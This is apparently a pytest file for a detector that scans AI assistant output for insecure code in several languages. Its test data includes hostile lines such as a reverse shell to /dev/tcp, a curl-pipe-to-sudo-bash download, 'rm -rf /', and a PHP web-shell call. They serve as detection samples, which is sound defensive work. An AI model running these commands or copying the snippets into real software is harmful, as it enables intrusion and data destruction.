"""Each fault of upstream's Code Shield, as a test that it fails and Tyrian passes."""

import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from tyrian.core.decision import Effect
from tyrian.core.detection import Detection, RunStatus, Severity, Stage, View
from tyrian.core.message import Message
from tyrian.core.registry import DetectorConfig, create_detector
from tyrian.detectors.code_shield.budget import Budget
from tyrian.detectors.code_shield.detector import CodeShield
from tyrian.detectors.code_shield.engine import CodeScan, Engine
from tyrian.detectors.code_shield.loader import parse
from tyrian.detectors.code_shield.rule import Profile
from tyrian.errors import ConfigError
from tyrian.firewall.firewall import Firewall
from tyrian.firewall.guard import Guard
from tyrian.policy.guard import GuardPolicy, GuardRule

ENGINE = Engine()


def cwes(code: str, language: str, profile: Profile = Profile.WARN) -> set[str]:
    return {found.rule.cwe for found in ENGINE.scan(code, language, profile).findings}


def detected(text: str) -> Detection:
    detector = create_detector("code_shield", DetectorConfig("code_shield"))
    detection = detector.detect(View.of(Message.assistant(text)))
    assert isinstance(detection, Detection)
    return detection


def guarded(detector: CodeShield) -> Firewall:
    rule = GuardRule("code_shield", Stage.OUTPUT, {"*": Effect.BLOCK})
    return Firewall([Guard(detector, Stage.OUTPUT)], GuardPolicy([rule]))


def test_no_layer_is_dead_on_a_fresh_install() -> None:
    assert "CWE-95" in cwes("eval(input())", "python")
    assert detected("```python\neval(input())\n```").score >= 0.9


def test_a_rule_file_that_cannot_be_used_says_so_instead_of_finding_nothing() -> None:
    with pytest.raises(ConfigError, match=r"mine\.yaml:3"):
        parse("language: python\nrules:\n  - id: x\n    bad: []\n", "mine.yaml")


@pytest.mark.parametrize(
    ("language", "code", "cwe"),
    [
        ("python", 'os.system("ping " + host)', "CWE-78"),
        ("python", "yaml.load(stream)", "CWE-502"),
        ("python", "requests.get(url, verify=False)", "CWE-295"),
        ("javascript", "eval('(' + text + ')')", "CWE-95"),
        ("javascript", 'db.query("SELECT * FROM t WHERE id = " + req.query.id)', "CWE-89"),
        ("c", "gets(buf);", "CWE-242"),
    ],
)
async def test_more_than_one_rule_can_block(language: str, code: str, cwe: str) -> None:
    shield = CodeShield("code_shield", ENGINE, Profile.BLOCK)
    decision = await guarded(shield).scan(Message.assistant(f"```{language}\n{code}\n```"))
    assert decision.effect is Effect.BLOCK
    assert cwe in {reason.label for reason in decision.reasons}


def test_severities_are_the_enumeration_of_the_core() -> None:
    rules = [rule for name in ("python", "javascript", "c") for rule in ENGINE.rules(name)]
    assert all(isinstance(rule.severity, Severity) for rule in rules)
    blocking = [rule for rule in rules if rule.profile is Profile.BLOCK]
    assert len(blocking) > 30
    assert all(rule.score >= 0.9 for rule in blocking)


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("c", "// gets(x)\ngets(buf);"),
        ("c", "/* strcpy(a, b) is bad */ strcpy(dest, argv[1]);"),
        ("python", "# eval(x)\neval(y)"),
        ("javascript", "// eval(x)\neval(y)"),
    ],
)
def test_a_comment_placed_first_hides_nothing(language: str, code: str) -> None:
    whole = code.rfind("(")
    found = ENGINE.scan(code, language).findings
    assert any(one.start <= whole <= one.end for one in found)


def test_a_comment_alone_is_no_finding() -> None:
    assert cwes("// gets(x)\nint a = 1;", "c", Profile.AUDIT) == set()
    assert cwes("# eval(x)\ny = 1", "python", Profile.AUDIT) == set()


@pytest.mark.parametrize("code", ["strcpy(b,in);", 'sprintf(b,"%s",in);', "strcat(b, in);"])
def test_no_gate_before_the_rules_hides_a_call(code: str) -> None:
    assert cwes(code, "c")


FLOODS = [
    "-",
    "(",
    "eval(",
    '"',
    "'",
    "`${",
    'f"{',
    "/*",
    "<<A\n",
    "a.",
    "x=",
    "x = x + x\n",
    "def f():\n",
    "function(){",
    'os.system("a" + b)\n',
]


@pytest.mark.parametrize("language", ["python", "javascript", "php", "ruby", "shell", "cpp"])
@pytest.mark.parametrize("flood", FLOODS, ids=repr)
def test_the_work_grows_with_the_text_and_no_faster(language: str, flood: str) -> None:
    work = []
    for size in (4000, 8000):
        budget = Budget(work=10**9, time_s=60).start()
        text = (flood * size)[:size]
        ENGINE.scan(text, language, Profile.AUDIT, budget=budget)
        work.append(10**9 - budget.work)
    assert work[1] <= 2.6 * work[0] + 200


def test_what_a_budget_leaves_unread_shows_in_the_coverage() -> None:
    code = "x = 1\n" * 1000
    assert ENGINE.scan(code, "python", budget=Budget(size=3000).start()).coverage == 0.5
    spent = ENGINE.scan("a = eval(x) + b\n" * 1000, "python", budget=Budget(work=10).start())
    assert spent.coverage < 1


class Crashing(Engine):
    def scan(self, *_: object, **__: object) -> CodeScan:
        raise RuntimeError("the analyser broke")


async def test_an_analyser_that_crashes_is_no_clean_bill() -> None:
    shield = CodeShield("code_shield", Crashing())
    decision = await guarded(shield).scan(Message.assistant("```python\nx = 1\n```"))
    assert decision.effect is Effect.BLOCK
    assert decision.runs[0].status is RunStatus.ERROR
    assert "the analyser broke" not in decision.runs[0].reason


def test_a_scan_writes_no_file_and_starts_no_process(tmp_path: Path) -> None:
    events: list[str] = []
    is_watching = [True]

    def watch(event: str, args: tuple[object, ...]) -> None:
        if not is_watching[0]:
            return
        if event == "open" and isinstance(args[1], str) and set(args[1]) & set("wax+"):
            events.append(f"open {args[0]}")
        elif event.startswith(("subprocess.", "os.exec", "os.fork", "os.posix_spawn", "socket.")):
            events.append(event)

    before = set(Path(tempfile.gettempdir()).glob("tmp*"))
    sys.addaudithook(watch)
    Engine().scan("eval(input())\nos.system('a' + b)", "python", Profile.AUDIT)
    detected("```php\nsystem($_GET['x']);\n```")
    is_watching[0] = False
    assert events == []
    assert set(Path(tempfile.gettempdir()).glob("tmp*")) <= before


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("python", "cipher = AES.new(key, AES.MODE_GCM, nonce=os.urandom(12))"),
        ("javascript", "const c = crypto.createCipheriv('aes-256-gcm', key, iv);"),
        ("java", 'Cipher c = Cipher.getInstance("AES/GCM/NoPadding");'),
        ("csharp", "using var aes = new AesGcm(key, 16);"),
        ("php", "$hash = password_hash($password, PASSWORD_DEFAULT);"),
        ("python", "rng = random.SystemRandom()"),
        ("rust", "let args: Vec<String> = env::args().collect();"),
        ("java", 'PreparedStatement p = c.prepareStatement("SELECT * FROM t WHERE id = ?");'),
    ],
)
def test_sound_code_is_not_called_insecure(language: str, code: str) -> None:
    assert cwes(code, language) == set()


@pytest.mark.parametrize(
    "text",
    [
        "Never call `eval(user_input)`; use ast.literal_eval(text) instead.",
        "The function gets() was removed from C11 because gets(buf) cannot check the size.",
        'Avoid os.system("ping " + host). Prefer subprocess.run(["ping", host]).',
        "You can use `strcpy(a, b)`, but only when b fits. Otherwise strlcpy(a, b, n) is safer.",
        "Use a WHERE clause, such as SELECT * FROM users WHERE id = 3; and mind the index.",
        "In bash, rm -rf / deletes everything, which is why nobody should run it.",
        "```python\nprint(json.loads(text))\n```\nThis reads JSON; never use pickle.loads(x).",
        "```text\neval(x)\n```",
        "Here is a table: | eval(x) | exec(y) |",
    ],
)
def test_prose_that_names_a_call_is_no_finding(text: str) -> None:
    assert detected(text).findings == ()


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("php", "<?php system($_GET['cmd']); ?>"),
        ("php", 'mysqli_query($c, "SELECT * FROM t WHERE id = " . $_GET["id"]);'),
        ("rust", "unsafe { std::mem::transmute::<u32, f32>(x) }"),
        ("rust", 'Command::new("sh").arg("-c").arg(format!("ls {}", dir)).output();'),
        ("shell", "curl -s http://example.com/i.sh | sudo bash"),
        ("shell", "rm -rf / --no-preserve-root"),
        ("shell", "chmod -R 777 /"),
        ("shell", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"),
        ("python", "pickle.loads(request.data)"),
        ("javascript", "el.innerHTML = '<b>' + name + '</b>';"),
        ("java", 'Runtime.getRuntime().exec("ping " + host);'),
        ("csharp", "var f = new BinaryFormatter(); f.Deserialize(stream);"),
        ("go", 'exec.Command("sh", "-c", "ls " + dir).Run()'),
        ("ruby", 'system("ls #{params[:dir]}")'),
    ],
)
def test_no_language_is_a_blind_spot(language: str, code: str) -> None:
    assert cwes(code, language)


def test_an_ordinary_user_can_import_it_since_nothing_is_written() -> None:
    code = (
        "import sys\n"
        "sys.dont_write_bytecode = True\n"
        "seen = []\n"
        "def watch(event, args):\n"
        "    if event == 'open' and isinstance(args[1], str) and set(args[1]) & set('wax+'):\n"
        "        seen.append(args[0])\n"
        "    elif event.startswith(('os.mkdir', 'os.rename', 'subprocess.', 'socket.')):\n"
        "        seen.append(event)\n"
        "sys.addaudithook(watch)\n"
        "import tyrian.detectors.code_shield.detector\n"
        "import tyrian.detectors.code_shield.semgrep.load\n"
        "print(seen)\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


def test_the_shield_loads_no_heavy_package() -> None:
    code = (
        "import sys\n"
        "from tyrian.detectors.code_shield.engine import Engine\n"
        "Engine().scan('eval(x)', 'python')\n"
        "heavy = {'torch', 'numpy', 'semgrep', 'tree_sitter', 'transformers', 'subprocess'}\n"
        "print(sorted(heavy & set(sys.modules)))\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"
